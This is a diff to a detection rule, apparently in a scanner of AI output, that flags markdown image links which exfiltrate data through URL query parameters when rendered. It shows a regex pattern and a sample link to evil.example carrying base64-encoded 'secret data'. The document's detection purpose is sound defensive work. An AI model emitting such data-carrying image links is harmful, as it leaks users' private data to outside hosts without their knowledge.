@@ -102,8 +102,8 @@ export const insecureOutputRules: readonly Rule[] = [
     severity_reason: 'It sends the data as soon as it is shown; nobody clicks.',
     references: ['https://atlas.mitre.org/techniques/AML.T0057'],
     triggers: ['!['],
-    pattern:
-      '!\\[[^\\]\\n]{0,200}\\]\\(\\s{0,3}<?https?://[^\\s)/?#]{1,200}[^\\s)?#]{0,300}\\?(?:[^\\s)]{0,300}?[?&])?(?!(?:w|h|v|width|height|size|raw|ver|version|format|fm|fit|crop|auto|q|quality|dpr|label|logo|style|color|branch|s|alt|text|ixlib|ixid|rlkey|sz)=)[\\w.[\\]-]{1,40}=[^\\s)&]{6,}[^\\s)]{0,2000}\\)?',
+    pattern: '!\\[[^\\]\\n]{0,200}\\]\\(\\s{0,3}<?https?://[^\\s)]{4,2400}\\)?',
+    validators: ['carries_data'],
     examples: {
       match: [{ text: '![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE)' }],
       no_match: [
